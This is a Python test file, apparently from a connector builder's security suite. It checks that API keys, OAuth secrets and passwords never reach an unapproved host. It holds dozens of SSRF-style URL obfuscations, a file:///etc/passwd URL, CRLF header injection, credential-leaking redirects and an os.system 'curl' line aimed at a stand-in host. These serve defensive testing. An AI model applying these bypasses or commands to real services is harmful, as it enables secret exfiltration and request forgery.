"""8. The wrong host: every spelling of a way to send a secret to somebody who was not approved.

The stranger listens on the API's own port of 127.0.0.2 and ::1, and on a port of its own; it is the proxy, too.
"""
from suite import case, group
from world import BEARER, World, cfg, manifest, source, stream

G = "8 hosts"
group(G, "wrong host")
KEY = {"X-Key": cfg("api_key")}
SPELLINGS = {
    "another port": "{other}", "another address": "http://127.0.0.2:{port}", "a decimal address": "http://2130706434:{port}", "a hex address": "http://0x7f000002:{port}",
    "an octal address": "http://0177.0.0.02:{port}", "a short address": "http://127.2:{port}", "hex parts": "http://0x7f.0.0.0x2:{port}",
    "a mapped address": "http://[::ffff:127.0.0.2]:{port}", "a mapped address in hex": "http://[::ffff:7f00:2]:{port}", "ipv6 loopback": "http://[::1]:{port}",
    "a long ipv6 loopback": "http://[0:0:0:0:0:0:0:1]:{port}", "localhost": "http://localhost:{otherport}", "localhost on the API's port": "http://localhost:{port}",
    "a trailing dot": "http://127.0.0.2.:{port}", "a name with a trailing dot": "http://localhost.:{otherport}", "upper case": "HTTP://LOCALHOST:{otherport}",
    "userinfo": "http://127.0.0.1:{port}@127.0.0.2:{port}", "a user without a password": "http://127.0.0.1@127.0.0.2:{port}", "userinfo with a slash": "http://127.0.0.1:{port}%2f@127.0.0.2:{port}",
    "a backslash": "http://127.0.0.2:{port}\\@127.0.0.1:{port}", "backslashes for slashes": "http:\\\\127.0.0.2:{port}", "a fragment": "http://127.0.0.2:{port}#@127.0.0.1:{port}",
    "a question mark": "http://127.0.0.2:{port}?@127.0.0.1:{port}", "a tab": "http://127.0.0\t.2:{port}", "a newline": "http://127.0.0.2:{port}\n", "a space": " http://127.0.0.2:{port}",
    "a missing slash": "http:/127.0.0.2:{port}", "three slashes": "http:///127.0.0.2:{port}", "no scheme": "//127.0.0.2:{port}", "a full-width address": "http://１２７.０.０.２:{port}",
    "an ideographic dot": "http://127。0。0。2:{port}", "a percent sign": "http://127.0.0.%32:{port}", "a zone": "http://[::1%25lo]:{port}", "https for http": "https://127.0.0.1:{port}",
    "ftp": "ftp://127.0.0.2:{port}", "file": "file:///etc/passwd", "gopher": "gopher://127.0.0.2:{port}", "all interfaces": "http://0.0.0.0:{otherport}", "zero": "http://0:{otherport}",
    "a nul": "http://127.0.0.2\u0000.127.0.0.1:{port}", "a soft hyphen": "http://127.0.0\u00ad.2:{port}", "a port with a sign": "http://127.0.0.2:+{port}",
    "a port with zeros": "http://127.0.0.2:0{port}", "an empty port": "http://127.0.0.2:", "a sub name": "http://127.0.0.1.localhost:{otherport}",
}
for name, url in SPELLINGS.items():
    case(G, f"url_base, {name}", lambda world, url=url: world.read(manifest(url=url, headers=KEY, auth=BEARER)))
for n, (name, url) in enumerate(SPELLINGS.items()):
    if n % 3 == 0:
        case(G, f"a path, {name}", lambda world, url=url: world.read(manifest(path=url + "/items", headers=KEY)))
    elif n % 3 == 1:
        case(G, f"the next page, {name}", lambda world, url=url: world.read(manifest(
            path="/next", params={"to": url + "/items"}, headers=KEY, retriever={"paginator": {
                "type": "DefaultPaginator", "page_token_option": {"type": "RequestPath"},
                "pagination_strategy": {"type": "CursorPagination", "cursor_value": "{{ response['next'] }}"}}})))
    else:
        case(G, f"a redirect, {name}", lambda world, url=url: world.read(manifest(path="/redirect", params={"to": url + "/items"}, headers=KEY, auth=BEARER)))
for status in (301, 302, 303, 307, 308):
    case(G, f"a redirect of {status} with a body", lambda world, status=status: world.read(manifest(
        path="/redirect", method="POST", params={"to": "{other}/items", "status": str(status)}, headers=KEY, auth=BEARER, body={"k": cfg("password")})))
case(G, "a redirect without a scheme", lambda world: world.read(manifest(path="/redirect", params={"to": "//127.0.0.2:{port}/items"}, headers=KEY)))
case(G, "a redirect to https", lambda world: world.read(manifest(path="/redirect", params={"to": "https://127.0.0.1:{port}/items"}, headers=KEY)))
case(G, "a redirect with userinfo", lambda world: world.read(manifest(path="/redirect", params={"to": "http://127.0.0.1:{port}@127.0.0.2:{port}/"}, headers=KEY)))
case(G, "two redirects", lambda world: world.read(manifest(path="/redirect", params={"to": "{api}/redirect?to={other}/items"}, headers=KEY, auth=BEARER)))
case(G, "a redirect with the key in its query", lambda world: world.read(manifest(path="/redirect", params={"to": "{other}/items?k={{ config['api_key'] }}"})))
case(G, "a redirect and a cookie", lambda world: world.read(source(stream(
    path="/redirect", params={"to": "{other}/items"}, auth=BEARER, retriever={"partition_router": {"type": "SubstreamPartitionRouter", "parent_stream_configs": [{
        "type": "ParentStreamConfig", "parent_key": "id", "partition_field": "p", "stream": stream("parent", path="/cookie")}]}}))))
case(G, "a path that begins with an at sign", lambda world: world.read(manifest(path="@127.0.0.2:{port}/items", headers=KEY)))
case(G, "a path that begins with a port", lambda world: world.read(manifest(url="http://127.0.0.1", path=":{otherport}/items", headers=KEY)))
case(G, "a path without a scheme", lambda world: world.read(manifest(path="//127.0.0.2:{port}/items", headers=KEY)))
case(G, "a host of a record", lambda world: world.read(source(stream(
    url="{{ stream_partition['h'] }}", headers=KEY, retriever={"partition_router": {"type": "SubstreamPartitionRouter", "parent_stream_configs": [{
        "type": "ParentStreamConfig", "parent_key": "to", "partition_field": "h", "stream": stream("parent", path="/where", params={"to": "{other}"})}]}}))))
case(G, "a host of the config", lambda world: world.read(manifest(url="{{ config['base'] }}", headers=KEY, fields={"base": {"type": "string"}}), config={"base": "{other}"}))
case(G, "a host of a parameter", lambda world: world.read(manifest(requester={"url_base": "{{ parameters['base'] }}"}, headers=KEY, extra={"$parameters": {"base": "{other}"}})))
case(G, "a host of a slice", lambda world: world.read(manifest(url="http://{{ stream_partition['h'] }}", headers=KEY, retriever={
    "partition_router": {"type": "ListPartitionRouter", "cursor_field": "h", "values": ["127.0.0.1:{port}", "127.0.0.2:{port}"]}})))
case(G, "a Host header", lambda world: world.read(manifest(path="/reflect", headers={**KEY, "Host": "127.0.0.2:{port}", "X-Forwarded-Host": "127.0.0.2"})))
case(G, "headers within headers", lambda world: world.read(manifest(path="/reflect", headers={"X-A": "b\r\nHost: 127.0.0.2\r\nX-Key: {{ config['api_key'] }}", "Connection": "close", "Transfer-Encoding": "chunked"})))
case(G, "a proxy in the manifest", lambda world: world.read(manifest(requester={"proxies": {"http": "{other}"}, "verify": False}, headers=KEY)))
OAUTH = {"type": "OAuthAuthenticator", "client_id": cfg("client_id"), "client_secret": cfg("client_secret"), "refresh_token": cfg("refresh_token")}
case(G, "a token endpoint", lambda world: world.read(manifest(auth={**OAUTH, "token_refresh_endpoint": "{other}/token"})))
case(G, "a token endpoint that redirects", lambda world: world.read(manifest(auth={**OAUTH, "token_refresh_endpoint": "{api}/redirect?status=307&to={other}/token"})))
case(G, "a token endpoint with userinfo", lambda world: world.read(manifest(auth={**OAUTH, "token_refresh_endpoint": "http://127.0.0.1:{port}@127.0.0.2:{port}/token"})))
case(G, "a login elsewhere", lambda world: world.read(manifest(auth={
    "type": "SessionTokenAuthenticator", "session_token_path": ["access_token"], "request_authentication": {"type": "Bearer"},
    "login_requester": {"type": "HttpRequester", "url_base": "{other}", "path": "/login", "http_method": "POST", "request_body_json": {"p": cfg("password")}}})))
for name, auth in (("an oauth token", {**OAUTH, "token_refresh_endpoint": "{api}/token"}),
                   ("a session token", {"type": "SessionTokenAuthenticator", "session_token_path": ["session", "value"], "request_authentication": {"type": "Bearer"},
                                        "login_requester": {"type": "HttpRequester", "url_base": "{api}", "path": "/login", "http_method": "POST", "request_body_json": {"p": cfg("password")}}}),
                   ("a signed token", {"type": "JwtAuthenticator", "algorithm": "HS256", "secret_key": cfg("client_secret")}),
                   ("a Basic header", {"type": "BasicHttpAuthenticator", "username": cfg("user"), "password": cfg("password")})):
    case(G, f"{name} elsewhere", lambda world, auth=auth: world.read(manifest(url="{other}", auth=auth)))
    case(G, f"{name} redirected", lambda world, auth=auth: world.read(manifest(path="/redirect", params={"to": "{other}/items", "status": "307"}, auth=auth)))
case(G, "a parent elsewhere", lambda world: world.read(source(stream(headers=KEY, retriever={"partition_router": {
    "type": "SubstreamPartitionRouter", "parent_stream_configs": [{"type": "ParentStreamConfig", "parent_key": "id", "partition_field": "p",
                                                                  "stream": stream("parent", url="{other}", auth=BEARER)}]}}))))
case(G, "a schema elsewhere", lambda world: world.read(manifest(schema={
    "type": "DynamicSchemaLoader", "retriever": stream(url="{other}", headers=KEY)["retriever"],
    "schema_type_identifier": {"schema_pointer": ["items"], "key_pointer": ["id"], "type_pointer": ["name"]}})))
case(G, "dynamic streams elsewhere", lambda world: world.call("execute_dynamic_manifest_resolution_test", manifest=source(more={"dynamic_streams": [{
    "type": "DynamicDeclarativeStream", "name": "made", "stream_template": stream("t"), "components_resolver": {
        "type": "HttpComponentsResolver", "retriever": stream(url="{other}", headers=KEY)["retriever"],
        "components_mapping": [{"type": "ComponentMappingDefinition", "field_path": ["name"], "value": "{{ components_values['id'] }}"}]}}]})))
case(G, "a job's download elsewhere", lambda world: world.read(source({**stream(), "retriever": {
    "type": "AsyncRetriever", "status_mapping": {"type": "AsyncJobStatusMap", "running": ["r"], "completed": ["{other}/items"], "failed": ["f"], "timeout": ["t"]},
    "status_extractor": {"type": "DpathExtractor", "field_path": ["items", "0", "to"]}, "download_target_extractor": {"type": "DpathExtractor", "field_path": ["items", "0", "to"]},
    "creation_requester": stream(path="/where", params={"to": "{other}/items"})["retriever"]["requester"], "polling_requester": stream(path="/where", params={"to": "{other}/items"})["retriever"]["requester"],
    "download_requester": stream(url="{{ download_target }}", path="", headers=KEY)["retriever"]["requester"], "record_selector": stream()["retriever"]["record_selector"]}})))
case(G, "custom code", lambda world: world.read(source({**stream(), "retriever": {"type": "CustomRetriever", "class_name": "os.system", "command": "curl {other}"}})))
case(G, "a token without a secret elsewhere", lambda world: world.read(manifest(url="{other}")))
case(G, "a record's value sent elsewhere", lambda world: world.read(source(stream(
    url="{other}", params={"r": "{{ stream_partition['p'] }}"}, retriever={"partition_router": {"type": "SubstreamPartitionRouter", "parent_stream_configs": [{
        "type": "ParentStreamConfig", "parent_key": "said", "partition_field": "p", "stream": stream("parent", path="/echo/body", headers=KEY)}]}}))))
case(G, "a schema's $ref", lambda world: world.read(manifest(headers=KEY, schema={"type": "InlineSchemaLoader", "schema": {"type": "object", "properties": {"id": {"$ref": "{other}/schema.json"}}}})))
case(G, "a manifest's $ref", lambda world: world.call("validate_manifest", manifest='{"version":"6.0.0","type":"DeclarativeSource","$ref":"{other}/manifest.yaml"}'))
case(G, "one key approved, another sent", lambda world: world.read(manifest(path="/reflect", headers={"X-Key": cfg("other_key")})),
     allow=lambda made, api, stranger: [f"api_key={api.origin}"])
case(G, "a key approved for the other host", lambda world: [world.read(manifest(headers=KEY)), world.read(manifest(url="{other}", headers={"X-Key": cfg("password")}))],
     allow=lambda made, api, stranger: [f"api_key={api.origin}"])
case(G, "nothing approved", lambda world: [world.read(manifest(headers=KEY)), world.read(manifest(url="{other}", headers=KEY)), world.read(manifest())], allow=[])
case(G, "a paste as a source", lambda world: [world.call("list_dotenv_secrets", dotenv_path="{other}/?abc#key"),
                                             world.read(manifest(headers=KEY), dotenv_file_uris="{other}/?abc#key"),
                                             world.call("populate_dotenv_missing_secrets_stubs", dotenv_path="{other}/?abc#key", config_paths="a")])
